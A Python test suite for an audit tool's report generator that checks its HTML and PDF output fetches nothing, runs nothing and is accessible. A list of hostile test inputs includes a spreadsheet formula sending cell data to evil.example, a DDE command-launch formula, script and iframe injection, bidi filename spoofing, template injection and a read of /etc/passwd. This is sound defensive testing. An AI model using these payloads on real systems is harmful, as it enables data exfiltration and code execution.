"""A report is one page that fetches nothing, runs nothing, can be read by everybody, and lets no text do anything."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator

import pytest
import tinyhtml5
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, IndirectObject, StreamObject

from keys_tooling.audit.inert import plain
from keys_tooling.audit.report.charts import FILLS, INK, PALE, RULE, SHADES, described, draw
from keys_tooling.audit.report.page import WITHHELD, Audience, Chart, Page, Section, Table
from keys_tooling.audit.report.pdf import LETTERS, lettered, pdf_page
from keys_tooling.audit.report.web import web_page
from schemas.errors import Refusal

HTML = "{http://www.w3.org/1999/xhtml}"
SVG = "{http://www.w3.org/2000/svg}"
HOSTILE = (
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"></title></svg></style><iframe src=//evil.example>",
    "]]><!--<b>--!>",
    "&#x3c;script&#x3e; &lt;b&gt; &amp;",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[2J \x9b31m \x07",
    "admin\u202egnp.exe \u2066\u2069 \u200f\u061c",
    "in\u200bvis\u2060ible \ufeff \U000e0041 \u3164",
    "{{ 7*7 }} {% for x in y %} {{ page.__class__ }}",
    "#panic(\"x\") $a$ #read(\"/etc/passwd\") #link(\"https://evil.example\")[x] *b* `c` @ref <label> \\u{41}",
    "line one\nline two\r\n\tthree",
    "javascript:alert(1)",
    "\x00\ud800" + "x" * 400,
)  # fmt: skip
"""What somebody might write into a reason, or call an agency."""


def page(text: str = "Because.", audience: Audience = "internal") -> Page:
    """A report with a text that somebody wrote in every place that takes one."""
    table = Table(
        f"Words {text}",
        ("Time", f"Reason {text}", "Count"),
        (("2026-11-22", text, 3), (text, "", None)),
        text,
    )
    charts = (
        Chart("stacked", f"Timely {text}", "Agency", (f"Peacock {text}", "IDVAS"), ("In time", f"Late {text}"), ((10, 3), (0, None))),
        Chart("columns", f"Over time {text}", "Month", ("2026-10", text), ("Overrides",), ((2,), (7,))),
        Chart("grid", f"Flows {text}", "From and to", ("A → B", text), ("contact", text), ((1, None), (20, 0))),
    )  # fmt: skip
    return Page(
        "weekly", "Weekly report", audience, f"Peacock {text}", f"a week {text}", "2026-11-22", "22 November 2026", (2026, 11),
        (
            Section(f"Holds {text}", (text,), (f"Ring {text}.", "Tell."), charts, (table,)),
            Section("Nothing", tables=(Table("Empty", ("A", "B"), ()),)),
        ),
    )  # fmt: skip


def parsed(given: Page) -> ET.Element:
    root: ET.Element = tinyhtml5.parse(web_page(given).decode("utf-8"))
    return root


def skeleton(root: ET.Element) -> list[tuple[str, tuple[str, ...]]]:
    """Every element with the names of its attributes, in order."""
    return [(str(one.tag), tuple(sorted(map(str, one.attrib)))) for one in root.iter()]


def said(root: ET.Element) -> str:
    return "".join(root.itertext())


# --- one file, nothing fetched, nothing run


def test_nothing_is_fetched_and_nothing_runs():
    text = web_page(page()).decode("utf-8")
    root = tinyhtml5.parse(text)
    for one in root.iter():
        assert one.tag not in {
            HTML + name
            for name in ("script", "link", "iframe", "img", "object", "embed", "base", "form", "input")
        }
        for name, value in one.attrib.items():
            assert not name.startswith("on")
            assert name not in ("src", "srcset", "action", "style", "xlink:href")
            assert name != "href" or value.startswith("#")
    addresses = set(re.findall(r"[a-z]+://[^\s\"'<]+", text))
    assert addresses <= {"http://www.w3.org/2000/svg"}
    assert "url(" not in text
    assert "@import" not in text


def test_its_own_policy_allows_its_style_and_nothing_else():
    root = parsed(page())
    [policy] = [
        one.get("content")
        for one in root.iter(HTML + "meta")
        if one.get("http-equiv") == "Content-Security-Policy"
    ]
    style = next(root.iter(HTML + "style")).text or ""
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"


# --- everybody can read it


def test_language_title_and_one_first_heading():
    root = parsed(page())
    assert root.get("lang") == "en-GB"
    assert (next(root.iter(HTML + "title")).text or "").startswith("Weekly report: Peacock")
    levels = [
        int(str(one.tag)[-1]) for one in root.iter() if re.fullmatch(re.escape(HTML) + "h[1-6]", str(one.tag))
    ]
    assert levels == [1, 2, 2]
    assert len(list(root.iter(HTML + "main"))) == 1


def test_every_table_has_a_caption_and_its_headings_say_what_they_head():
    tables = list(parsed(page()).iter(HTML + "table"))
    assert len(tables) == 4
    for table in tables:
        assert table[0].tag == HTML + "caption"
        heads = [one.get("scope") for one in table.iter(HTML + "th")]
        columns, rows = (
            len(table.findall(f".//{HTML}thead//{HTML}th")),
            len(table.findall(f".//{HTML}tbody/{HTML}tr")),
        )
        assert heads == ["col"] * columns + ["row"] * rows
        assert {len(row) for row in table.iter(HTML + "tr")} == {columns}


def test_every_reference_within_the_page_leads_somewhere():
    root = parsed(page())
    ids = [one.get("id") for one in root.iter() if one.get("id")]
    assert len(ids) == len(set(ids))
    wanted = [one.get("href", "").removeprefix("#") for one in root.iter(HTML + "a")]
    for one in root.iter():
        wanted += (one.get("aria-labelledby") or "").split()
    assert set(wanted) <= set(ids)
    assert "main" in wanted


def test_a_wide_table_can_be_reached_by_the_keyboard():
    for table in parsed(page()).iter(HTML + "div"):
        assert (table.get("role"), table.get("tabindex")) == ("region", "0")


def test_every_chart_has_a_title_and_says_its_figures_in_words():
    for svg, chart in zip(parsed(page()).iter(SVG + "svg"), page().sections[0].charts, strict=True):
        title, desc = svg[0], svg[1]
        assert (svg.get("role"), title.tag, desc.tag) == ("img", SVG + "title", SVG + "desc")
        assert svg.get("aria-labelledby") == f"{title.get('id')} {desc.get('id')}"
        assert desc.text == plain(described(chart))
        for row, line in zip(chart.rows, chart.values, strict=True):
            figures = ", ".join(
                f"{name} {WITHHELD if v is None else v}" for name, v in zip(chart.columns, line, strict=True)
            )
            assert f"{row}: {figures}." in (desc.text or "")


def test_every_chart_is_followed_by_a_table_of_the_same_figures():
    root = parsed(page())
    [section, _] = root.iter(HTML + "section")
    parts = list(section)
    figures = [at for at, one in enumerate(parts) if one.tag == HTML + "figure"]
    for at, chart in zip(figures, page().sections[0].charts, strict=True):
        rows = [
            [said(cell).strip() for cell in row] for row in parts[at + 1].findall(f".//{HTML}tbody/{HTML}tr")
        ]
        assert rows == [
            [row, *(WITHHELD if value is None else str(value) for value in line)]
            for row, line in zip(chart.rows, chart.values, strict=True)
        ]


def test_every_figure_other_than_nought_stands_written_in_its_chart():
    for svg, chart in zip(parsed(page()).iter(SVG + "svg"), page().sections[0].charts, strict=True):
        written = [one.text for one in svg.iter(SVG + "text")]
        for value in (value for line in chart.values for value in line if value):
            assert str(value) in written


@pytest.mark.parametrize(
    ("line", "added", "row"),
    [((60, 30), True, ["60", "30", "90"]), ((60, 30), False, ["60", "30"]), ((60, None), True, ["60", "60, some withheld"]),
     ((60, None), False, ["60", "some withheld"]), ((None, None), True, [WITHHELD]), ((0, 0), True, ["0"])],
)  # fmt: skip
def test_a_bar_says_its_sum_only_where_figures_add_up(
    line: tuple[int | None, ...], added: bool, row: list[str]
):
    chart = Chart("stacked", "T", "Agency", ("x", "y"), ("A", "B"), (line, (50, 50)), added)
    written = [one.text for one in ET.fromstring(draw(chart, 1)).iter(SVG + "text")]
    assert written[written.index("x") + 1 : written.index("y")] == row


def luminance(colour: str) -> float:
    """WCAG 2.2, relative luminance."""
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


@pytest.mark.parametrize(
    ("ink", "ground"),
    [("#ffffff", fill) for fill in FILLS]
    + [(INK, shade) for shade in (*SHADES[:-1], PALE, "#ffffff", "#ececec")]
    + [
        ("#ffffff", SHADES[-1]),
        (RULE, "#ffffff"),
        ("#404040", "#ffffff"),
        ("#1d4e89", "#ffffff"),
        ("#1d4e89", "#ffdd00"),
    ],
)
def test_words_stand_out_from_what_they_stand_on(ink: str, ground: str):
    assert contrast(ink, ground) >= 4.5


def test_a_section_without_rows_says_so():
    assert "Empty: None." in said(parsed(page()))


@pytest.mark.parametrize(("audience", "head"), [("internal", "INTERNAL. Not for publication."), ("public", "FOR PUBLICATION. Small numbers are withheld.")])  # fmt: skip
def test_head_and_file_name_say_for_whom_it_is(audience: Audience, head: str):
    given = page(audience=audience)
    root = parsed(given)
    [strong] = [one for one in root.iter(HTML + "p") if one.get("class") == "audience"]
    assert said(strong).startswith(head)
    assert given.name.startswith(f"{audience.upper()}-weekly-peacock")
    assert head in " ".join(PdfReader(io.BytesIO(pdf_page(given))).pages[0].extract_text().split())


# --- what others wrote


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_the_page(text: str):
    root = parsed(page(text))
    assert skeleton(root) == skeleton(parsed(page()))
    assert said(root).count(plain(text)) >= 12
    assert not harmful(web_page(page(text)).decode("utf-8"))


@given(st.text(min_size=1, max_size=60))
@settings(max_examples=40, deadline=None)
def test_any_text_at_all_is_text_in_the_page(text: str):
    root = parsed(page(text))
    assert skeleton(root) == skeleton(parsed(page()))
    assert not harmful(web_page(page(text)).decode("utf-8"))


def harmful(text: str) -> list[str]:
    """Controls, and what turns or hides letters; a page has line ends of its own."""
    bidi = set(
        map(
            chr,
            (
                *range(0x202A, 0x202F),
                *range(0x2066, 0x206A),
                0x200E,
                0x200F,
                0x061C,
                0x200B,
                0x2060,
                0xFEFF,
                0x3164,
            ),
        )
    )
    return [
        c
        for c in text
        if c in bidi or (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 or 0xE0000 <= ord(c) < 0xE0FFF
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_the_pdf(text: str):
    reader = PdfReader(io.BytesIO(pdf_page(page(text))))
    words = squeezed("".join(one.extract_text() for one in reader.pages))
    assert squeezed(lettered(text))[:30] in words
    assert acts(reader) == set()


@given(st.text(min_size=1, max_size=40))
@settings(max_examples=10, deadline=None)
def test_any_text_at_all_makes_a_pdf_that_does_nothing(text: str):
    assert acts(PdfReader(io.BytesIO(pdf_page(page(text))))) == set()


def squeezed(text: str) -> str:
    return re.sub(r"\s|\u200b|\u00ad|-", "", text)


def objects(reader: PdfReader) -> Iterator[DictionaryObject]:
    for number in range(1, len(reader.xref_objStm) + sum(map(len, reader.xref.values())) + 1):
        found = reader.get_object(IndirectObject(number, 0, reader))
        if isinstance(found, DictionaryObject):
            yield found


def acts(reader: PdfReader) -> set[str]:
    """Whatever in a PDF could run, open or fetch something."""
    bad = {
        "/JS",
        "/JavaScript",
        "/URI",
        "/OpenAction",
        "/AA",
        "/Launch",
        "/EmbeddedFile",
        "/GoToR",
        "/SubmitForm",
        "/RichMedia",
    }
    found = set()
    for one in objects(reader):
        found |= bad & {str(key) for key in one} | bad & {
            str(value) for value in one.values() if isinstance(value, str)
        }
    return found


# --- PDF


def test_the_pdf_is_tagged_and_says_its_language_and_title():
    reader = PdfReader(io.BytesIO(pdf_page(page())))
    root = reader.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-GB"
    assert root["/ViewerPreferences"]["/DisplayDocTitle"]
    assert (reader.metadata.title or "").startswith("Weekly report: Peacock")
    meta = root["/Metadata"]
    assert isinstance(meta, StreamObject)
    assert b"<pdfuaid:part>1</pdfuaid:part>" in meta.get_data()


def test_the_pdf_tags_headings_tables_and_what_charts_say():
    kinds = [one.get("/S") for one in objects(PdfReader(io.BytesIO(pdf_page(page())))) if one.get("/S")]
    assert kinds.count("/Table") == 4
    assert {"/H1", "/H2", "/TH", "/TD", "/TR", "/Figure", "/L", "/LI"} <= set(kinds)
    said = [one["/Alt"] for one in objects(PdfReader(io.BytesIO(pdf_page(page())))) if "/Alt" in one]
    assert len(said) == 3
    assert "IDVAS: In time 0, Late Because. withheld." in said[0]


def test_the_pdf_embeds_its_fonts_and_is_the_same_each_time():
    data = pdf_page(page())
    assert data == pdf_page(page())
    fonts = [one for one in objects(PdfReader(io.BytesIO(data))) if one.get("/Type") == "/FontDescriptor"]
    assert fonts
    assert all({"/FontFile", "/FontFile2", "/FontFile3"} & one.keys() for one in fonts)


def test_every_letter_that_is_not_spelt_out_shows():
    """typst refuses PDF/UA with a letter that its font does not have."""
    letters = "".join(char for span in LETTERS for char in map(chr, span))
    assert pdf_page(page(letters))
    assert lettered("Zażółć Ελλάδα Одеса →") == "Zażółć Ελλάδα Одеса →"
    assert lettered("ירושלים 中") == "".join(
        f"\\u{{{ord(char):x}}}" if char != " " else " " for char in "ירושלים 中"
    )


def test_without_typst_pdf_is_refused_in_words(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(sys.modules, "typst", None)
    with pytest.raises(Refusal) as refused:
        pdf_page(page())
    assert refused.value.code == "NO_PDF"
